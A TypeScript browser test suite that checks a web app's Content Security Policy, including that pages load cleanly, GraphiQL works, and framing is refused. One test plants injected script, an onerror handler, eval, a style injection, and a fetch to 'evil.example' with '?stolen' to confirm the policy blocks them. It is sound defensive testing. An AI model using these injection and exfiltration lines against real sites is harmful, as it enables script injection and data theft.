import { afterAll, beforeAll, expect, it } from 'vitest'
import { patienceMilliseconds, useBrowser } from '../kit/browser.ts'
import { startTestServer } from '../kit/server.ts'
import type { TestServer } from '../kit/server.ts'

let server: TestServer
const open = useBrowser()

beforeAll(async () => {
  server = await startTestServer()
})
afterAll(() => server.close())

/** What the browser says when a policy keeps something from the page. */
const isRefusal = (complaint: string) =>
  /content security policy|permissions policy|refused to|blocked/i.test(complaint)

it.each(['/', '/wall', '/events', '/organisations', '/activity', '/office'])(
  'the page at %s needs nothing that the policy forbids',
  async (path) => {
    const { page, complaints } = await open(server.url + path)
    await page.locator('main, h1, form, [data-connection]').first().waitFor()
    await page.evaluate(() => document.fonts.ready.then(() => undefined))
    expect(complaints.filter(isRefusal)).toEqual([])
  },
)

it.each([
  ['Counters', 'query', 'definition'],
  ['LiveCounters', 'subscription', 'snapshot'],
])('GraphiQL runs its tab %s under its policy', async (tab, operation, answer) => {
  const { page, complaints } = await open(`${server.url}/graphql`)
  await page.getByRole('tab', { name: tab }).first().click()
  await page.locator('.graphiql-query-editor').filter({ hasText: operation }).waitFor()
  // The editor takes a moment to hand the tab over; until then the button runs the one before.
  const results = page.locator('.result-window')
  const run = async () => {
    if (!(await results.innerText()).includes(answer)) await page.locator('.graphiql-execute-button').click()
    return results.innerText()
  }
  await expect.poll(run, { interval: 1_500, timeout: patienceMilliseconds }).toContain(answer)
  expect(complaints.filter(isRefusal)).toEqual([])
})

it('a script that got into a page can neither run nor send anything away', async () => {
  const { page, complaints } = await open(server.url, { allowed: /^asked/ })
  const tried = await page.evaluate(async () => {
    const ran = () => 'evil' in window
    const inline = document.createElement('script')
    inline.textContent = 'window.evil = true'
    document.head.append(inline)
    const byAttribute = document.createElement('img')
    byAttribute.setAttribute('onerror', 'window.evil = true')
    byAttribute.src = '/none.png'
    document.body.append(byAttribute)
    await new Promise((resolve) => byAttribute.addEventListener('error', resolve))
    let evaluated = true
    try {
      // oxlint-disable-next-line no-new-func
      new Function('return 1')()
    } catch {
      evaluated = false
    }
    const sent = await fetch('https://evil.example/?stolen').then(
      () => true,
      () => false,
    )
    const style = document.createElement('style')
    style.textContent = 'body { --evil: 1 }'
    document.head.append(style)
    const styled = getComputedStyle(document.body).getPropertyValue('--evil') !== ''
    return { ran: ran(), evaluated, sent, styled }
  })
  expect(tried).toEqual({ ran: false, evaluated: false, sent: false, styled: false })
  expect(complaints.filter((complaint) => /content security policy/i.test(complaint)).length).toBeGreaterThan(2)
})

it('no page can put ours into a frame', async () => {
  const { page, complaints } = await open(`${server.url}/health`)
  await page.setContent(`<iframe src="${server.url}/office"></iframe>`)
  await expect
    .poll(() => complaints.some((complaint) => /frame-ancestors|default-src|frame-src/.test(complaint)))
    .toBe(true)
})
